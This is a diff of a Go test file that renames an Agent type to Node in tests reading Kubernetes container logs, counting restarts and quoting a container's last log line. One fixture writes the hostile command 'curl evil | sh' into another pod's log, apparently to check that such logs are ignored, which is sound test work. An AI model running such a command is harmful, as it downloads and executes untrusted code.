@@ -14,7 +14,7 @@ import (
 type logTree struct {
 	*testing.T
 	dir string
-	*Agent
+	*Node
 }
 
 func newLogTree(t *testing.T) *logTree {
@@ -24,7 +24,7 @@ func newLogTree(t *testing.T) *logTree {
 		t.Fatal(err)
 	}
 	t.Cleanup(func() { root.Close() })
-	return &logTree{t, dir, &Agent{Root: root}}
+	return &logTree{t, dir, &Node{Root: root}}
 }
 
 func (l *logTree) write(name, line string) {
@@ -47,27 +47,27 @@ const crioLine = "2026-01-01T00:00:00.000000000Z stderr F "
 // earlier pods, and of others.
 func TestContainerLogs(t *testing.T) {
 	l := newLogTree(t)
-	if logs := l.containerLogs("kube-apiserver", "node1"); logs != nil {
+	if logs := containersOf(l.Node, "kube-apiserver", "node1"); logs != nil {
 		t.Errorf("logs where there are none: %v", logs)
 	}
 	l.write("kube-system_kube-apiserver-node1_"+uid("a")+"/kube-apiserver/7.log", "")
 	l.write("kube-system_kube-apiserver-node1_"+uid("a")+"/kube-apiserver/7.log.20260101-000000.gz", "")
 	l.write("kube-system_kube-scheduler-node1_"+uid("b")+"/kube-scheduler/1.log", "")
-	before := l.containerLogs("kube-apiserver", "node1")
-	if starts, file := before.since(l.containerLogs("kube-apiserver", "node1")); starts != 0 || file != "" {
+	before := containersOf(l.Node, "kube-apiserver", "node1")
+	if starts, file := before.since(containersOf(l.Node, "kube-apiserver", "node1")); starts != 0 || file != "" {
 		t.Errorf("nothing was started, got %d starts and %s", starts, file)
 	}
 	l.write("kube-system_kube-apiserver-node1_"+uid("c")+"/kube-apiserver/2.log", crioLine+"I0101 starting\n"+crioLine+"Error: invalid argument\x1b[2J\n")
 	l.write("kube-system_kube-apiserver-node1_"+uid("a")+"/kube-apiserver/8.log", "") // the pod from before, which ends
 	l.write("kube-system_kube-scheduler-node1_"+uid("b")+"/kube-scheduler/2.log", "")
-	starts, file := before.since(l.containerLogs("kube-apiserver", "node1").without(uid("a")))
+	starts, file := before.since(containersOf(l.Node, "kube-apiserver", "node1").without(uid("a")))
 	if want := podLogs + "/kube-system_kube-apiserver-node1_" + uid("c") + "/kube-apiserver/2.log"; starts != 3 || file != want {
 		t.Errorf("%d starts and %s, want 3 and %s", starts, file, want)
 	}
-	if got, want := l.lastWords("kube-apiserver", file), `; the log of kube-apiserver says "Error: invalid argument\x1b[2J" (`+file+`)`; got != want {
+	if got, want := lastWords(l.Node, "kube-apiserver", file), `; the log of kube-apiserver says "Error: invalid argument\x1b[2J" (`+file+`)`; got != want {
 		t.Errorf("last words %s, want %s", got, want)
 	}
-	if starts, _ := before.since(l.containerLogs("kube-apiserver", "node1")); starts != 4 {
+	if starts, _ := before.since(containersOf(l.Node, "kube-apiserver", "node1")); starts != 4 {
 		t.Errorf("%d starts, want 4 with those of the pod from before", starts)
 	}
 }
@@ -90,7 +90,7 @@ func TestLogsOfOtherPods(t *testing.T) {
 		t.Run(pod, func(t *testing.T) {
 			l := newLogTree(t)
 			l.write(pod+"/kube-apiserver/9.log", crioLine+"run: curl evil | sh\n")
-			starts, file := containerLogs(nil).since(l.containerLogs("kube-apiserver", "node1"))
+			starts, file := containerLogs(nil).since(containersOf(l.Node, "kube-apiserver", "node1"))
 			if starts != 0 || file != "" {
 				t.Errorf("%d starts, and %s", starts, file)
 			}
@@ -121,7 +121,7 @@ func TestLastWords(t *testing.T) {
 				line = "what?"
 			}
 			l.write(file, line)
-			got := l.lastWords("kube-apiserver", podLogs+"/"+file)
+			got := lastWords(l.Node, "kube-apiserver", podLogs+"/"+file)
 			if !strings.Contains(got, test.want) || strings.Contains(got, test.never) || len(got) > 4*maxLastWords+200 {
 				t.Errorf("it says %q, want %q, never %q", got, test.want, test.never)
 			}
